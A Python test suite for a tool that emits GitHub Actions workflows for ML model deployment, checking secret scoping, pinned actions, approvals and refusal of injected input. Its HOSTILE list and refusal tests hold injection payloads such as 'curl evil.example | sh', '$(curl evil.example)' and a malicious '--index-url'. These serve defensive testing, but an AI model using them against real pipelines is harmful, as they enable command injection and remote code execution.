from __future__ import annotations

import hashlib
import os
import re
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.unit.targets.pipelines import (
    MANY_GATES,
    NO_FILES,
    artifacts,
    document,
    holding,
    skeleton,
)

from mlspec.errors import MlspecError, OutputError
from mlspec.ir import PipelineGate
from mlspec.resources import data_path
from mlspec.targets import is_sealed, template_renderer
from mlspec.targets._workflow_check import check_workflow
from mlspec.targets.github_actions import TARGET

RENDER = template_renderer()
TEMPLATES = data_path("templates") / "github_actions"


def emitted(render=RENDER, name="mlspec", **changes):
    found = artifacts(TARGET, render, **changes)
    return next(found[path] for path in found if path.endswith(f"/{name}.yml"))


def workflow(**changes):
    return document(emitted(**changes))


def steps(jobs):
    return [step for job in jobs.values() for step in job["steps"]]


def test_each_environment_is_judged_planned_and_applied_on_its_own():
    found = workflow()

    assert ["pull_request", "merge_group", "push"] == list(found["on"])
    assert {"branches": ["main"]} == found["on"]["push"]
    assert [
        "validate",
        *("gates-prod", "plan-prod", "apply-prod"),
        *("gates-staging", "plan-staging", "apply-staging"),
    ] == list(found["jobs"])
    assert ["plan-prod", "gates-prod"] == found["jobs"]["apply-prod"]["needs"]
    assert "prod" == found["jobs"]["apply-prod"]["environment"]


def test_only_the_environments_of_apply_can_be_waited_for():
    found = workflow()["jobs"]

    assert {name for name in found if "environment" in found[name]} == {
        "apply-prod",
        "apply-staging",
    }


SERVER = {"environments": ("prod", "staging"), "registry": "git", "server": "mlflow"}


def test_jobs_read_a_server_of_models_as_a_user_of_their_own_and_apply_as_another():
    found = workflow(**SERVER)["jobs"]
    watched = document(emitted(name="mlspec-watch", **SERVER))["jobs"]

    named = {name: job["environment"] for name, job in found.items() if "environment" in job}
    assert named == {
        "plan-prod": "prod.read",
        "plan-staging": "staging.read",
        "apply-prod": "prod",
        "apply-staging": "staging",
    }
    assert "prod.read" == watched["drift-prod"]["environment"]


def test_only_the_steps_that_ask_the_server_get_its_password():
    jobs = [workflow(**SERVER)["jobs"], document(emitted(name="mlspec-watch", **SERVER))["jobs"]]

    asking = {"Plan", "Apply exactly this plan", "Compare the registry with its record"}
    for step in (each for found in jobs for each in steps(found)):
        told = step.get("env", {})
        assert (step["name"] in asking) == ("MLFLOW_TRACKING_PASSWORD" in told)
        assert "${{ secrets" not in str({key: each for key, each in step.items() if key != "env"})
        if step["name"] in asking:
            assert "${{ vars.MLFLOW_TRACKING_URI }}" == told["MLFLOW_TRACKING_URI"]
            assert "${{ secrets.MLFLOW_TRACKING_TOKEN }}" == told["MLFLOW_TRACKING_TOKEN"]


@pytest.mark.parametrize(("is_fork", "ends_with"), [("true", 0), ("false", 69), ("", 69)])
def test_a_fork_that_can_not_read_the_server_has_no_plan_and_is_told(tmp_path, is_fork, ends_with):
    done, written, _ = run(tmp_path, "Plan", code=69, changes=SERVER, IS_FORK=is_fork)

    assert ends_with == done.returncode
    assert ("changes=false\n" if is_fork == "true" else "") == written["GITHUB_OUTPUT"]
    assert "the server of models" in done.stdout


@pytest.mark.parametrize("named", ["prod.read", "elsewhere"])
def test_a_job_that_reads_the_server_may_write_nothing(tmp_path, named):
    text = emitted(**SERVER).content
    wrong = text.replace('environment: "prod.read"', f'environment: "{named}"', 1).replace(
        "contents: read # to check out the specs, and", "contents: write # to", 1
    )

    assert wrong != text
    with pytest.raises(OutputError, match=r"may write|exactly one"):
        check_workflow(wrong, ("prod", "staging"))


def test_plans_are_cancelled_by_newer_ones_and_applies_never():
    found = workflow()

    assert "pull_request" in found["concurrency"]["cancel-in-progress"]
    assert found["jobs"]["apply-prod"]["concurrency"] == {
        "group": "mlspec-apply-prod",
        "cancel-in-progress": False,
    }


def test_only_a_job_that_people_let_through_may_write_and_every_job_ends_in_time():
    found = workflow()

    assert {} == found["permissions"]
    for name, job in found["jobs"].items():
        contents = "write" if name.startswith("apply-") else "read"
        reviews = {"pull-requests": "read"} if name.startswith("apply-") else {}
        assert {"contents": contents} | reviews == job["permissions"]
        assert job["timeout-minutes"] <= 60


def test_only_the_steps_that_ask_the_repository_get_the_token():
    found = {step["name"]: str(step.get("env", {})) for step in steps(workflow()["jobs"])}

    assert {"Plan", "Apply exactly this plan", "Get the commits that were reviewed"} == {
        name for name, env in found.items() if "GITHUB_TOKEN" in env
    }
    assert {"Get the reviews of the change"} == {
        name for name, env in found.items() if "GH_TOKEN" in env
    }


def test_the_token_is_told_to_the_server_of_the_repository_and_to_no_other(tmp_path):
    (step,) = (
        each
        for each in workflow(environments=("prod",))["jobs"]["plan-prod"]["steps"]
        if each["name"] == "Plan"
    )
    given = {
        key: value.replace("${{ github.server_url }}", "https://forge.example.org").replace(
            "${{ github.token }}", "t0ken"
        )
        for key, value in step["env"].items()
    }

    def asked(host):
        return subprocess.run(
            ["git", "credential", "fill"],
            input=f"protocol=https\nhost={host}\n\n",
            env={"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GIT_TERMINAL_PROMPT": "0"}
            | given,
            capture_output=True,
            text=True,
            check=False,
        ).stdout

    assert "username=x-access-token\npassword=t0ken\n" in asked("forge.example.org")
    assert "t0ken" not in asked("forge.example.org.evil.example")


def test_the_authors_of_a_change_are_found_in_the_history():
    checkouts = {
        name: next(each["with"] for each in job["steps"] if "checkout" in each.get("uses", ""))
        for name, job in workflow()["jobs"].items()
    }

    assert {name for name, each in checkouts.items() if each.get("fetch-depth") == 0} == {
        *("plan-prod", "plan-staging", "apply-prod", "apply-staging"),
    }


def test_every_action_is_pinned_with_its_version_and_keeps_no_credentials():
    text = emitted().content
    used = re.findall(r"uses: (.*)", text)

    assert used
    for each in used:
        assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", each)
    for step in steps(workflow()["jobs"]):
        if "checkout" in step.get("uses", ""):
            assert step["with"]["persist-credentials"] is False


def test_without_files_there_is_nothing_to_judge():
    found = workflow(gates=NO_FILES)["jobs"]

    assert ["validate", "plan-prod", "apply-prod", "plan-staging", "apply-staging"] == list(found)


def test_many_models_are_judged_in_several_steps():
    found = workflow(gates=MANY_GATES)
    judged = [
        step["env"]["MODELS"]
        for step in found["jobs"]["gates-prod"]["steps"]
        if "MODELS" in step.get("env", {})
    ]

    models = [each.split() for each in found["env"].values()]
    assert [f"${{{{ env.{name} }}}}" for name in found["env"]] == judged
    assert [300, 300, 100] == [len(each) for each in models]
    assert [gate.address for gate in MANY_GATES] == [each for step in models for each in step]


def test_many_models_and_environments_are_no_larger_than_github_reads():
    gates = tuple(PipelineGate(f"model/credit-scoring-{i:05}", has_files=True) for i in range(9999))

    text = emitted(gates=gates, environments=("dev", "prod", "staging")).content

    assert 250_000 < len(text) < 500_000


def test_a_workflow_that_github_would_not_start_is_refused():
    gates = tuple(PipelineGate(f"model/{'m' * 50}-{i:05}", has_files=True) for i in range(9999))

    with pytest.raises(OutputError, match="GitHub starts none of more than 500,000"):
        emitted(gates=gates)


def test_paths_of_a_workspace_in_a_folder_are_relative_to_the_repository():
    found = workflow(workspace_path="ml/specs")

    assert "ml/specs" == found["defaults"]["run"]["working-directory"]
    kept = [each["with"]["path"] for each in steps(found["jobs"]) if "path" in each.get("with", {})]
    assert "ml/specs/evidence/prod/" in kept


def registries(**changes):
    jobs = workflow(**changes)["jobs"].values()
    return {
        job["env"]["MLSPEC_REGISTRY"] for job in jobs if "MLSPEC_REGISTRY" in job.get("env", {})
    }


@pytest.mark.parametrize("backend", ["embedded", "git"])
def test_the_registry_of_a_runner_is_a_ref_of_the_repository_unless_a_variable_says_more(backend):
    assert {"${{ vars.MLSPEC_REGISTRY || 'git:origin' }}"} == registries(registry=backend)


def test_a_registry_that_is_elsewhere_needs_no_right_to_write():
    found = workflow(registry="mlflow")["jobs"]

    assert {"${{ vars.MLSPEC_REGISTRY }}"} == registries(registry="mlflow")
    assert "read" == found["apply-prod"]["permissions"]["contents"]
    named = {step["name"] for step in steps(found) if "GITHUB_TOKEN" in step.get("env", {})}
    assert {"Get the commits that were reviewed"} == named


def test_the_workflow_carries_a_seal_that_an_edit_breaks():
    content = emitted().content.encode()

    assert is_sealed(content)
    assert not is_sealed(content.replace(b"branches:", b"branches :"))


HOSTILE = st.one_of(
    st.text(min_size=1, max_size=40),
    st.sampled_from(
        [
            "${{ secrets.TOKEN }}",
            "x\n      - run: curl evil.example | sh",
            "main'; curl evil.example | sh; '",
            '"; curl evil.example; "',
            "$(curl evil.example)",
            "`id`",
            "prod\npermissions: write-all",
            "on: push #",
            "{a: b}",
            "& * ! | > %",
            "../../etc",
            "a/../../etc",
            "x' || true || '",
            "model/x model/y",
            "\u2028key: value",
            "::set-output name=changes::true",
        ]
    ),
)
ON_A_REF = ("embedded", "git")
FIELDS = (
    *("branch", "runner", "python", "workspace_path", "evidence_path", "mlspec_version"),
    *("source", "environments", "gates", "registry"),
)


@pytest.mark.parametrize("field", FIELDS)
@settings(max_examples=60)
@given(text=HOSTILE)
def test_no_text_of_a_spec_changes_what_the_workflow_does(field, text):
    try:
        found = workflow(**{field: holding(field, text)})
    except OutputError:
        return

    plain = workflow(registry="x") if field == "registry" and text not in ON_A_REF else workflow()
    if field == "environments":
        plain = workflow(environments=("staging", "b"))
        plain["jobs"] = {
            name.removesuffix("-b") + f"-{text}" if name.endswith("-b") else name: job
            for name, job in plain["jobs"].items()
        }
    assert skeleton(plain) == skeleton(found)
    assert [each.get("run") for each in steps(plain["jobs"])] == [
        each.get("run") for each in steps(found["jobs"])
    ]
    named = [each.replace(f"needs.plan-{text}.", "needs.plan-b.") for each in expressions(found)]
    assert expressions(plain) == sorted(named if field == "environments" else expressions(found))


def expressions(value):
    return sorted(re.findall(r"\$\{\{.*?\}\}", str(value)))


@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("branch", "main\n  - x"),
        ("branch", "${{ github.token }}"),
        ("runner", "[self-hosted]"),
        ("environments", ("prod staging",)),
        ("gates", (PipelineGate("model/$(id)", has_files=True),)),
        ("gates", (PipelineGate("dataset/x", has_files=True),)),
        ("mlspec_version", "0.1 --index-url=http://evil.example"),
        ("workspace_path", "../other"),
        ("evidence_path", "/etc"),
    ],
)
def test_a_name_that_is_more_than_a_name_is_refused(field, text):
    with pytest.raises(OutputError, match="can't be the name of"):
        emitted(**{field: text})


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        ("jobs:", "tasks:", "it has no jobs"),
        ("permissions: {}", "permissions: write-all", "does not start from"),
        ("    environment: {{ environment.name | yaml }}\n", "", "exactly one `environment`"),
        ("contents: read # to check out the specs\n", "contents: write\n", "nobody has to approve"),
        (
            "run: mlspec validate --format github",
            "run: echo {% raw %}${{ github.head_ref }}{% endraw %}",
            "a script holds an expression",
        ),
        ("name: mlspec\n", "name: mlspec\nname: mlspec\n", "line 2"),
        ("name: mlspec\n", "name: mlspec\n---\n", "is not one YAML mapping|line"),
    ],
)
def test_a_template_that_gives_an_unsafe_workflow_is_refused(tmp_path, old, new, reason):
    text = (TEMPLATES / "mlspec.yml.j2").read_text(encoding="utf-8")
    assert old in text
    (tmp_path / "github_actions").mkdir()
    (tmp_path / "github_actions/mlspec.yml.j2").write_text(text.replace(old, new, 1))

    with pytest.raises(MlspecError, match=reason):
        emitted(template_renderer(tmp_path))


def test_a_pin_that_is_no_commit_is_refused(tmp_path):
    (tmp_path / "github_actions").mkdir()
    text = (TEMPLATES / "pins.json").read_text()
    loose = re.sub(r"@[0-9a-f]{40}", "@v7", text, count=1)
    (tmp_path / "github_actions/pins.json").write_text(loose)

    with pytest.raises(OutputError, match="is not pinned to a commit"):
        emitted(template_renderer(tmp_path))


def script(name, **changes):
    found = {step["name"]: step for step in steps(workflow(**changes)["jobs"]) if "run" in step}
    return found[name]["run"]


def run(tmp_path, name, *, code, output="", changes=None, **environment):
    """Run a script of the workflow as a runner does, with a stand-in for `mlspec`."""
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "said").write_text(output)
    (tools / "mlspec").write_text(
        f'#!/bin/sh\necho "$@" >> {tools}/arguments\ncat {tools}/said\n'
        f'test "$1" != plan || test {code} -gt 5 || echo {{}} > {tmp_path}/plan/plan.json\n'
        f'test "$1" = show || exit {code}\n'
    )
    (tools / "mlspec").chmod(0o755)
    files = {key: tmp_path / key for key in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script(name, **(changes or {}))],
        cwd=tmp_path,
        env={
            "PATH": f"{tools}:{os.environ['PATH']}",
            "RUNNER_TEMP": str(tmp_path),
            "ENVIRONMENT": "prod",
            "GITHUB_ACTOR": "ana",
            "MLSPEC_REGISTRY": "",
            **{key: str(file) for key, file in files.items()},
            **environment,
        },
        capture_output=True,
        text=True,
        check=False,
    )
    written = {key: file.read_text() if file.exists() else "" for key, file in files.items()}
    arguments = (tools / "arguments").read_text() if (tools / "arguments").exists() else ""
    return done, written, arguments


@pytest.mark.parametrize(("code", "output"), [(0, "changes=false\n"), (2, "changes=true\n")])
def test_a_plan_says_whether_there_are_changes(tmp_path, code, output):
    done, written, arguments = run(tmp_path, "Plan", code=code, output="~ model/screen\n")

    assert 0 == done.returncode
    digest = hashlib.sha256(b"{}\n").hexdigest()
    assert f"digest={digest}\n{output}" == written["GITHUB_OUTPUT"]
    assert written["GITHUB_STEP_SUMMARY"].startswith("~ model/screen\n")
    assert arguments.splitlines() == [
        f"plan --env prod --detailed-exitcode --out {tmp_path}/plan/plan.json",
        f"show {tmp_path}/plan/plan.json --format markdown",
    ]


def test_a_plan_that_policy_denies_is_shown_and_fails_the_job(tmp_path):
    done, written, _ = run(tmp_path, "Plan", code=5, output="blocked\n")

    assert 5 == done.returncode
    assert "a policy denies the plan" in done.stdout
    assert "changes" not in written["GITHUB_OUTPUT"]
    assert written["GITHUB_STEP_SUMMARY"].startswith("blocked\n")


@pytest.mark.parametrize("code", [64, 69])
def test_a_plan_that_fails_fails_the_job_with_its_code(tmp_path, code):
    done, written, _ = run(tmp_path, "Plan", code=code)

    assert code == done.returncode
    assert f"ended with exit code {code}" in done.stdout
    assert {"GITHUB_OUTPUT": "", "GITHUB_STEP_SUMMARY": ""} == written


def test_what_a_spec_says_is_no_command(tmp_path):
    said = "::set-output name=changes::true\n##[set-output name=changes]true\n```\n@all\r<b>\n"

    done, _, _ = run(tmp_path, "Plan", code=0, output=said)

    before, _, after = done.stdout.partition("::stop-commands::")
    token, _, rest = after.partition("\n")
    assert re.fullmatch("[0-9a-f]{32}", token)
    assert "::" not in before
    assert rest.endswith(f"\n::{token}::\n")


def test_a_module_of_the_repository_is_not_run(tmp_path):
    (tmp_path / "secrets.py").write_text("raise SystemExit('run by the workflow')")

    done, _, _ = run(tmp_path, "Plan", code=0)

    assert 0 == done.returncode, done.stderr


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (0, ""),
        (6, "approvals or evidence are missing"),
        (10, "moved since the plan"),
        (12, "changed after it was made"),
        (13, "another registry"),
        (23, "run this job again"),
        (1, "exit code 1"),
    ],
)
def test_apply_says_why_it_stopped_and_ends_with_the_code_of_mlspec(tmp_path, code, words):
    done, _, arguments = run(tmp_path, "Apply exactly this plan", code=code)

    assert code == done.returncode
    assert words in done.stdout
    assert ("::error" in done.stdout) is bool(code)
    reviews = f"--reviews {tmp_path}/reviews.json"
    assert f"apply --as ana {reviews} {tmp_path}/plan/plan.json\n" == arguments


@pytest.mark.parametrize("code", [0, 7, 8, 9, 1])
def test_gates_end_with_the_code_of_mlspec(tmp_path, code):
    done, written, arguments = run(
        tmp_path, "Judge the gates", code=code, output="auc-floor\n", MODELS="model/a model/b"
    )

    assert code == done.returncode
    assert ("::error" in done.stdout) is bool(code)
    assert "    auc-floor\n" in written["GITHUB_STEP_SUMMARY"]
    assert "gate run --env prod --leave-to-review --run-at now model/a model/b\n" == arguments


def test_gates_are_signed_where_the_runner_holds_a_key(tmp_path):
    _, _, arguments = run(
        tmp_path, "Judge the gates", code=0, MODELS="model/a", SIGN_KEY="/keys/ci.pub"
    )

    assert (
        "gate run --env prod --leave-to-review --run-at now model/a --sign /keys/ci.pub\n"
        == arguments
    )


COUNTING = (PipelineGate("model/screen", has_files=True, counts_uses=True),)
FETCHES = "Get what earlier runs tell of the use of test rows"


def gates_job(**changes):
    return workflow(**changes)["jobs"]["gates-prod"]


def test_earlier_runs_are_asked_only_where_a_gate_counts_the_models_its_rows_have_judged():
    counting, other = gates_job(gates=COUNTING), gates_job()

    assert FETCHES in [each["name"] for each in counting["steps"]]
    assert {"actions": "read", "contents": "read"} == counting["permissions"]
    assert FETCHES not in [each["name"] for each in other["steps"]]
    assert {"contents": "read"} == other["permissions"]


def test_gates_that_count_uses_read_the_registry_and_others_do_not():
    (counting,) = [
        each for each in gates_job(gates=COUNTING)["steps"] if each["name"] == "Judge the gates"
    ]
    (other,) = [each for each in gates_job()["steps"] if each["name"] == "Judge the gates"]

    assert {"MLSPEC_REGISTRY", "GITHUB_TOKEN"} <= counting["env"].keys()
    assert {"MODELS", "SIGN_KEY"} == other["env"].keys()


def test_what_earlier_runs_tell_comes_before_the_gates_and_is_never_taken_for_evidence(tmp_path):
    names = [each["name"] for each in gates_job(gates=COUNTING)["steps"]]
    (step,) = [each for each in gates_job(gates=COUNTING)["steps"] if each["name"] == FETCHES]
    done = fetched(tmp_path, step["run"], "echo 7; echo 9")

    assert 0 == done.returncode, done.stderr
    assert names.index(FETCHES) < names.index("Judge the gates")
    work = tmp_path / "work"
    found = sorted(each.relative_to(work).as_posix() for each in work.rglob("*.json"))
    assert ["evidence/_earlier-7/a.uses.json", "evidence/_earlier-9/a.uses.json"] == found


def test_where_earlier_runs_can_not_be_asked_nothing_is_judged(tmp_path):
    (step,) = [each for each in gates_job(gates=COUNTING)["steps"] if each["name"] == FETCHES]

    assert 0 != fetched(tmp_path, step["run"], "exit 1").returncode


def fetched(tmp_path, script, listing):
    """Run the step as a runner does, with a stand-in for `gh`."""
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "gh").write_text(
        f'#!/bin/bash\nif [ "$1" = api ]; then {listing}; exit; fi\n'
        'while [ "$1" != --dir ]; do shift; done\nmkdir -p "$2"\n'
        'touch "$2/a.uses.json" "$2/a.evidence.json"\n'
    )
    (tools / "gh").chmod(0o755)
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=tmp_path,
        env={
            "PATH": f"{tools}:{os.environ['PATH']}",
            "RUNNER_TEMP": str(tmp_path),
            "GITHUB_WORKSPACE": str(tmp_path / "work"),
            "GITHUB_REPOSITORY": "owner/repository",
            "ARTIFACT": "evidence-prod",
            "EVIDENCE": "evidence",
        },
        capture_output=True,
        text=True,
        check=False,
    )
